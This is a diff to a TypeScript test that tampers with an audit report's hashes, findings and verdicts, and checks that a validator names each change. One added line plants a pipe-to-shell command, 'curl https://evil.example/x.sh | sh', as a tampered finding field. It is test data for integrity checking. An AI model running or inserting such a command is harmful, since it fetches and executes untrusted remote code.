@@ -182,6 +182,7 @@ test('Each change in a report is named', async ({ faulty }) => {
     Object.values(exchanges)[3]!.sha256 = '0'.repeat(64);
     delete exchanges[findings[0]!.exchange];
     findings.splice(1, 1);
+    Object.assign(findings[1]!, { curl: 'curl https://evil.example/x.sh | sh' });
     Object.assign(
       clauses.find(({ id }) => id === findings[0]!.clause)!,
       { verdict: 'pass' },
@@ -198,6 +199,7 @@ test('Each change in a report is named', async ({ faulty }) => {
     /: its SHA-256 is not the one that it was recorded with\n/,
     /: it shows \S+ at \S+ \(\w+\), and is not there\n/,
     /: it violates \S+ at \S+ \(\w+\), and no finding says so\n/,
+    /: the curl line of \S+ is not that of its exchange\n/,
     /: its verdict is “pass”, and a finding breaks it\n/,
     /: its verdict is “fail”, and no finding breaks it\n/,
     /: its level, class or statement is not that of the catalogue\n/,
